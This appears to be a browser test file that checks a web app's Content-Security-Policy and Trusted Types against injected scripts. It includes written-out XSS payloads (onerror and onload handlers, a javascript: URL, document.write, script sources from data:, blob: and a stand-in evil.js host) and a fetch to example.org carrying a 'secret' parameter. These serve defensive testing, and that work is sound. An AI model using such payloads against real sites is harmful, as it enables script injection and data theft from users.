// A script that got into the page by some other hole: the policy that the server sends must stop it before it runs.
// The header is the server's own; nothing is set here.

import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { launch, visitor } from './support/browser.mjs';
import { setUp } from './support/person.mjs';
import { givenLink, start } from './support/product.mjs';

describe('a script injected into the page', { timeout: 180_000 }, () => {
  let product, browser, page, response;

  before(async () => {
    product = await start();
    browser = await launch();
    ({ page } = await visitor(browser));
    // A link that was given is used up by the walk; then these attacks run on the page as strangers see it.
    if (!givenLink) await setUp(page, product.link);
    response = await page.goto(new URL('/', product.link).href);
    await page.getByRole('heading').first().waitFor();
    await page.evaluate(() => {
      globalThis.violations = [];
      addEventListener('securitypolicyviolation', ({ effectiveDirective }) => globalThis.violations.push(effectiveDirective));
    });
  });
  after(async () => {
    await browser?.close();
    await product?.stop();
  });

  /** Tries it in the page, waits a moment, and says what was thrown, what the policy reported, and whether the script ran. */
  const attempt = async (act) => {
    await page.evaluate(() => ((globalThis.violations.length = 0), (globalThis.ran = false)));
    const thrown = await page.evaluate(act).then(() => null, (error) => error.message);
    await page.waitForTimeout(300);
    return { thrown, ...(await page.evaluate(() => ({ ran: globalThis.ran, violations: [...globalThis.violations] }))) };
  };

  it('is under a policy that names no exception', () => {
    const policy = response.headers()['content-security-policy'];
    for (const part of ["default-src 'none'", "script-src 'self'", "require-trusted-types-for 'script'", "base-uri 'none'", "frame-ancestors 'none'", "form-action 'none'"]) assert.ok(policy.includes(part), part);
    assert.doesNotMatch(policy, /unsafe-|script-src[^;]*(data:|blob:|\*|http)/);
    assert.match(policy, /trusted-types svelte-trusted-html lenskeep-worker(;|$)/);
    assert.equal(response.headers()['x-content-type-options'], 'nosniff');
  });

  it('does not run as an inline script', async () => {
    const { ran, thrown } = await attempt(() => {
      const script = document.createElement('script');
      script.textContent = 'globalThis.ran = true';
      document.body.append(script);
    });
    assert.equal(ran, false);
    assert.match(thrown ?? 'TrustedScript', /TrustedScript/);
  });

  it('does not run as an inline script that was parsed, past Trusted Types', async () => {
    const { ran, violations } = await attempt(() => {
      const script = document.createElement('script');
      script.append(document.createTextNode('globalThis.ran = true'));
      document.body.append(script);
    });
    assert.equal(ran, false);
    assert.ok(violations.length > 0);
  });

  it('does not run as an event handler', async () => {
    const { ran } = await attempt(() => {
      const image = document.createElement('img');
      image.setAttribute('onerror', 'globalThis.ran = true');
      image.src = '/no-such-picture.png';
      document.body.append(image);
    });
    assert.equal(ran, false);
  });

  it('does not run from a javascript: address', async () => {
    const { ran, violations } = await attempt(() => {
      const link = document.createElement('a');
      link.href = 'javascript:globalThis.ran = true';
      document.body.append(link);
      link.click();
    });
    assert.equal(ran, false);
    assert.ok(violations.length > 0);
  });

  it('cannot be written as HTML', async () => {
    for (const act of [
      () => (document.body.innerHTML += '<img src=x onerror="globalThis.ran = true">'),
      () => document.body.insertAdjacentHTML('beforeend', '<svg onload="globalThis.ran = true">'),
      () => document.write('<script>globalThis.ran = true</script>'),
      () => (document.createElement('iframe').srcdoc = '<script>parent.ran = true</script>'),
      () => new DOMParser().parseFromString('<b>', 'text/html'),
    ]) {
      const { thrown, ran } = await attempt(act);
      assert.match(thrown, /TrustedHTML/);
      assert.equal(ran, false);
    }
  });

  it('does not come from another place', async () => {
    for (const address of ['data:text/javascript,globalThis.ran=true', 'https://example.org/evil.js', 'blob:']) {
      const { thrown, ran } = await attempt(`(() => {
        const script = document.createElement('script');
        script.src = ${JSON.stringify(address)} === 'blob:' ? URL.createObjectURL(new Blob(['globalThis.ran = true'])) : ${JSON.stringify(address)};
        document.body.append(script);
      })()`);
      assert.match(thrown, /TrustedScriptURL/);
      assert.equal(ran, false);
    }
  });

  it('starts no Worker, service worker or policy of its own', async () => {
    for (const [act, expected] of [
      [() => void new Worker('/assets/evil.js'), /TrustedScriptURL/],
      [() => navigator.serviceWorker.register('/evil.js'), /TrustedScriptURL/],
      [() => void globalThis.trustedTypes.createPolicy('evil', { createHTML: (text) => text }), /[Pp]olicy/],
      [() => void globalThis.trustedTypes.createPolicy('default', { createScript: (text) => text }), /[Pp]olicy/],
    ]) {
      const { thrown } = await attempt(act);
      assert.match(thrown, expected);
    }
  });

  it('does not evaluate text', async () => {
    const { thrown, ran } = await attempt(() => setTimeout('globalThis.ran = true'));
    assert.equal(ran, false);
    assert.match(thrown, /TrustedScript/);
  });

  it('sends nothing to another server, and no form anywhere', async () => {
    const { thrown, violations } = await attempt(() => fetch('https://example.org/?secret=1'));
    assert.ok(thrown);
    assert.ok(violations.includes('connect-src'));
    const form = await attempt(() => {
      const made = document.createElement('form');
      made.action = 'https://example.org/';
      document.body.append(made);
      made.submit();
    });
    assert.ok(form.violations.includes('form-action'));
  });

  it('finds no device key to take: what the browser keeps is sealed', async () => {
    const kept = await page.evaluate(
      () =>
        new Promise((resolve, reject) => {
          const request = indexedDB.open('lenskeep', 1);
          request.onerror = () => reject(request.error);
          request.onsuccess = () => {
            if (!request.result.objectStoreNames.contains('kept')) return resolve(null);
            const read = request.result.transaction('kept').objectStore('kept').get('device');
            read.onsuccess = () => resolve(read.result && { keys: Object.keys(read.result).sort(), wrap: Object.keys(read.result.wrap).sort(), sealed: read.result.sealed.length });
          };
        }),
    );
    if (givenLink && kept === null) return;
    // Two seeds of 32 bytes and the tag of AES-GCM.
    assert.deepEqual(kept, { keys: ['anchor', 'device', 'nonce', 'org', 'sealed', 'version', 'wrap'], wrap: ['credential', 'kind', 'salt'], sealed: 80 });
    assert.deepEqual(await page.evaluate(() => [localStorage.length, sessionStorage.length]), [0, 0]);
  });
});
